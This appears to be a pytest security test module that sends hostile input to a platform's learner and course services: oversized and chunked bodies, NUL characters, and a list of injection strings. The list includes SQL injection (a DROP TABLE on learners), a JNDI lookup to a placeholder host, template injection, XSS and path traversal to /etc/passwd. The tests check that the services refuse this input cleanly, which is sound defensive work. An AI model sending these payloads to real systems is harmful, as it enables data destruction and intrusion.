"""Hostile input on every documented operation: oversized bodies, injection strings, NUL characters."""

from collections.abc import AsyncIterator
from typing import Any

import pytest
from localinfra.service_fixtures import MAX_BODY_BYTES, RunningService
from servicekit.http.problems import PROBLEM_JSON

from tests.security.conftest import SERVICES
from tests.security.operations import operations
from tests.security.test_access_matrix import PLATFORM_ROLES, concrete

pytestmark = pytest.mark.integration

INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE learners; --",
    "' UNION SELECT NULL, NULL --",
    "%",
    "_%\\",
    "a\x00b",
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "\U0001d54f" * 60,  # astral characters: four UTF-8 bytes each
]


def everyone(service: RunningService) -> dict[str, str]:
    """A token that passes every role check, so the input itself is what is tested."""
    return service.token("00000000-0000-4000-8000-000000000001", *PLATFORM_ROLES, localities=["00004"])


def _free_text(parameter: dict[str, Any]) -> bool:
    """A query parameter a caller may fill with any text (no enum, format or pattern narrows it)."""
    schemas = [parameter["schema"], *parameter["schema"].get("anyOf", [])]
    text = [s for s in schemas if s.get("type") == "string"]
    return bool(text) and not any({"enum", "format", "pattern"} & s.keys() for s in text)


def _answers_well(response: Any) -> bool:
    if response.status_code >= 500:
        return False
    return response.status_code < 400 or response.headers.get("content-type") == PROBLEM_JSON


TABLES = "SELECT array_agg(tablename ORDER BY tablename) FROM pg_tables WHERE schemaname = 'public'"


@pytest.mark.parametrize("name", sorted(SERVICES))
async def test_injection_strings_in_every_free_text_filter_do_no_harm(name, platform_apps):
    service, app = platform_apps[name]
    headers, bad, tables = everyone(service), [], await service.db.fetchval(TABLES)
    for path, ops in app.openapi()["paths"].items():
        query = [p for p in ops.get("get", {}).get("parameters", []) if p["in"] == "query"]
        for param in [p["name"] for p in query if _free_text(p)]:
            for text in INJECTIONS:
                response = await service.client.get(concrete(path), params={param: text}, headers=headers)
                bad += [] if _answers_well(response) else [(path, param, text, response.status_code)]
    assert not bad, bad
    assert await service.db.fetchval(TABLES) == tables


@pytest.mark.parametrize("name", sorted(SERVICES))
async def test_oversized_bodies_are_refused_with_a_problem_and_no_500(name, platform_apps):
    service, app = platform_apps[name]
    paths, bad = app.openapi()["paths"], []
    headers = {**everyone(service), "Content-Type": "application/json"}
    big = b'{"padding": "' + b"x" * (4 * MAX_BODY_BYTES) + b'"}'
    for op in operations(app):
        if "requestBody" not in paths[op.path][op.method.lower()]:
            continue
        for body in (big, _stream(big)):
            url = concrete(op.path)
            response = await service.client.request(op.method, url, content=body, headers=headers)
            if response.status_code not in (413, 422) or not _answers_well(response):
                bad.append((op.method, op.path, response.status_code))
    assert not bad, bad


async def _stream(data: bytes) -> AsyncIterator[bytes]:
    """A body without Content-Length (chunked): the limit must count what arrives, not trust a header."""
    for start in range(0, len(data), 1024):
        yield data[start : start + 1024]


NUL_BODIES = {
    ("enrolment", "/v1/learners"): {
        "full_name": "Hà\x00Lan",
        "date_of_birth": "1992-03-14",
        "sex": "female",
        "locality_code": "00004",
        "learner_type": "resident",
    },
    ("content", "/v1/courses"): {
        "code": "NUL-101",
        "title_vi": "Sơ\x00cứu",
        "title_en": "First aid",
        "theme": "disaster_prevention",
        "delivery_mode": "online",
        "capacity": 30,
    },
}


@pytest.mark.parametrize(("name", "path"), sorted(NUL_BODIES))
async def test_a_nul_character_in_stored_text_is_a_422_not_a_500(name, path, platform_apps):
    service, _ = platform_apps[name]
    response = await service.client.post(path, json=NUL_BODIES[name, path], headers=everyone(service))
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == PROBLEM_JSON
